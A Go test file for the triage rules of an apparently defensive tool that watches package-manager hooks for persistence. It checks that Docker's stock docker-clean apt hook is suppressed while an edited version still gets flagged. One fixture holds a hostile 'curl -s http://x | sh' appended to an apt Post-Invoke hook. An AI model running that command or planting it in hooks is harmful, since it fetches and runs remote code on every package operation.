package triage

import (
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/collector/store"
)

// dockerClean is the row unowned-hooks returns for the docker-clean file
// of Docker's Debian images (as on a debian:bookworm container).
func dockerClean(command string) store.Change {
	return store.Change{Host: "h", QueryID: "unowned-hooks", Row: store.Row{"manager": "apt", "hook": "DPkg::Post-Invoke", "line": "12",
		"path": "/etc/apt/apt.conf.d/docker-clean", "command": command}}
}

func TestDefaultsCoverDockerClean(t *testing.T) {
	ds, err := Defaults()
	if err != nil {
		t.Fatal(err)
	}
	set, now := Set(ds), time.Now()
	shipped := dockerClean("rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true")
	edited := dockerClean("rm -f /var/cache/apt/archives/*.deb; curl -s http://x | sh")
	kept, covered := set.Apply([]store.Change{shipped, edited}, now, false)
	if covered != 1 || len(kept) != 1 || kept[0].Row["command"] != edited.Row["command"] {
		t.Fatalf("covered %d, kept %v", covered, kept)
	}
	all, _ := set.Apply([]store.Change{shipped}, now, true)
	if len(all) != 1 || all[0].Row["triaged"] == "" || shipped.Row["triaged"] != "" {
		t.Fatalf("--all marks %v (the original row: %v)", all, shipped.Row)
	}
}

func TestDecisionCovers(t *testing.T) {
	now := time.Now()
	c := store.Change{Host: "h1", QueryID: "q", RowHash: "abc", Row: store.Row{"command": "x"}}
	for _, tc := range []struct {
		name string
		d    Decision
		want bool
	}{
		{"identity, every host", Decision{Query: "q", Hash: "abc", Until: now.Add(time.Hour)}, true},
		{"this host", Decision{Query: "q", Host: "h1", Hash: "abc", Until: now.Add(time.Hour)}, true},
		{"another host", Decision{Query: "q", Host: "h2", Hash: "abc", Until: now.Add(time.Hour)}, false},
		{"another query", Decision{Query: "r", Hash: "abc", Until: now.Add(time.Hour)}, false},
		{"another row", Decision{Query: "q", Hash: "abd", Until: now.Add(time.Hour)}, false},
		{"expired", Decision{Query: "q", Hash: "abc", Until: now}, false},
		{"match", Decision{Query: "q", Match: map[string]string{"command": "x"}}, true},
		{"match a column the row lacks", Decision{Query: "q", Match: map[string]string{"path": ""}}, false},
		{"nothing to match", Decision{Query: "q"}, false},
	} {
		if got := tc.d.Covers(c, now); got != tc.want {
			t.Errorf("%s: covers %v", tc.name, got)
		}
	}
}
